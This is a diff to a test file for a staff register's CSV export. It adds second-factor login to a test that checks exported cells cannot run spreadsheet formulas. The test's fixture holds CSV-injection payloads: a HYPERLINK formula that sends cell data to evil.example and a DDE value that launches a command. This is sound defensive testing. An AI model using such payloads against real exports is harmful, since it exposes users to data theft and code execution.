@@ -18,6 +18,7 @@ from tests.factories import (
     UserFactory,
     admitted,
 )
+from tests.second_factor import log_in_with_second_factor
 
 
 def test_the_database_refuses_to_delete_a_row_of_the_register(db):
@@ -230,7 +231,7 @@ def test_the_register_csv_cannot_run_formulas_in_a_spreadsheet(client, staff):
     MembershipFactory(
         legal_name='=HYPERLINK("http://evil.example/?"&A1,"Click")', address="+cmd|' /C calc'!A0"
     )
-    client.force_login(staff)
+    log_in_with_second_factor(client, staff)
 
     rows = list(
         csv.reader(io.StringIO(client.get(reverse("staff_register"), {"format": "csv"}).getvalue().decode()))
